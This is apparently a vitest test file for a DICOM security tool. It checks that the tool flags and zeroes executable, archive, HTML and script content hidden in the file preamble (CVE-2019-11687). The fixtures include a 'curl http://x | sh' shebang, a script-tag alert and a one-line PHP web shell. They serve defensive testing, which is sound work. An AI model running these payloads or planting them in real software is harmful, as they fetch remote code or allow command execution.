import { describe, expect, it } from 'vitest';
import { makeInstance } from '../../test/support/synth.js';
import { PacsGuardError } from '../errors.js';
import { parsePart10 } from './parse.js';
import { inspectPreamble, sanitizePreamble, type PreambleThreat } from './sanitize.js';

const bytes = (...parts: (string | number[])[]): Buffer =>
  Buffer.concat(parts.map((p) => (typeof p === 'string' ? Buffer.from(p, 'latin1') : Buffer.from(p))));

/** A 128-byte preamble holding `content` at `at`, zeros elsewhere. */
function preamble(content: Buffer, at = 0): Buffer {
  const p = Buffer.alloc(128);
  content.copy(p, at);
  return p;
}

describe('inspectPreamble (CVE-2019-11687)', () => {
  it.each<[string, Buffer, PreambleThreat['kind']]>([
    ['a PE/DOS header', preamble(bytes('MZ', [0x90, 0x00, 0x03])), 'pe'],
    ['an ELF header', preamble(bytes([0x7f], 'ELF', [2, 1, 1])), 'elf'],
    ['a 64-bit Mach-O header', preamble(bytes([0xcf, 0xfa, 0xed, 0xfe])), 'macho'],
    ['a 32-bit big endian Mach-O header', preamble(bytes([0xfe, 0xed, 0xfa, 0xce])), 'macho'],
    ['a universal binary', preamble(bytes([0xca, 0xfe, 0xba, 0xbe])), 'macho'],
    ['a shebang', preamble(bytes('#!/bin/sh\ncurl http://x | sh\n')), 'script'],
    ['a ZIP local header at the start', preamble(bytes('PK', [3, 4], 'rest')), 'archive'],
    ['a ZIP local header in the middle', preamble(bytes('PK', [3, 4]), 60), 'archive'],
    ['a CAB archive', preamble(bytes('MSCF', [0, 0, 0, 0])), 'archive'],
    ['a RAR archive', preamble(bytes('Rar!', [0x1a, 0x07, 0x00])), 'archive'],
    ['a 7-Zip archive', preamble(bytes('7z', [0xbc, 0xaf, 0x27, 0x1c])), 'archive'],
    ['a gzip stream', preamble(bytes([0x1f, 0x8b, 0x08])), 'archive'],
    ['a script tag anywhere', preamble(bytes('<ScRiPt>alert(1)</script>'), 40), 'html'],
    ['an HTML document', preamble(bytes('<!DOCTYPE html><html>')), 'html'],
    ['PHP', preamble(bytes('<?php system($_GET[1]); ?>'), 10), 'script'],
  ])('flags %s', (_, pre, kind) => {
    const threat = inspectPreamble(pre);
    expect(threat?.kind).toBe(kind);
    expect(threat?.detail.length).toBeGreaterThan(10);
  });

  it('names the NT header of a real-looking PE', () => {
    const pe = preamble(bytes('MZ'));
    pe.writeUInt32LE(0x40, 0x3c);
    bytes('PE', [0, 0]).copy(pe, 0x40);
    expect(inspectPreamble(pe)?.detail).toContain('NT header at offset 64');
  });

  it.each([
    ['all zeros', Buffer.alloc(128)],
    ['a little endian TIFF header (PS3.10 §7.1)', preamble(bytes('II*', [0], [8, 0, 0, 0]))],
    ['a big endian TIFF header', preamble(bytes('MM', [0, 42]))],
    ['vendor text', preamble(bytes('ACME Modality 3000 export v2.1'))],
    ['a short input', Buffer.from([0, 0, 0])],
    ['nothing', Buffer.alloc(0)],
  ])('leaves %s alone', (_, pre) => {
    expect(inspectPreamble(pre)).toBeNull();
  });

  it('looks only at the preamble, not the dataset', () => {
    const file = makeInstance({ extra: { '00204000': { vr: 'LT', Value: ['<script>alert(1)</script> MZ PK'] } } });
    expect(inspectPreamble(file)).toBeNull();
  });
});

describe('sanitizePreamble', () => {
  it('zeroes the 128 preamble bytes of a copy and keeps everything from DICM on', () => {
    const file = makeInstance({ preamble: preamble(bytes('MZ', [0x90]), 0) });
    const clean = sanitizePreamble(file);
    expect(clean).not.toBe(file);
    expect(clean.length).toBe(file.length);
    expect(clean.subarray(0, 128).every((b) => b === 0)).toBe(true);
    expect(clean.subarray(128).equals(file.subarray(128))).toBe(true);
    expect(file.subarray(0, 2).toString('latin1')).toBe('MZ'); // the input is untouched
    expect(inspectPreamble(clean)).toBeNull();
  });

  it('gives a file that still parses to the same instance', () => {
    const file = makeInstance({ preamble: preamble(bytes([0x7f], 'ELF')), transferSyntax: 'deflated' });
    const before = parsePart10(file);
    expect(before.preambleThreat?.kind).toBe('elf');
    const after = parsePart10(sanitizePreamble(file));
    expect(after.preambleThreat).toBeNull();
    expect(after.metadata).toEqual(before.metadata);
  });

  it.each([
    ['shorter than 132 bytes', Buffer.alloc(131)],
    ['without DICM', Buffer.alloc(400)],
  ])('refuses input %s', (_, input) => {
    expect(() => sanitizePreamble(input)).toThrow(PacsGuardError);
    try {
      sanitizePreamble(input);
    } catch (err) {
      expect((err as PacsGuardError).code).toBe('PG_ERR_DICOM_NO_FILE_META');
    }
  });
});
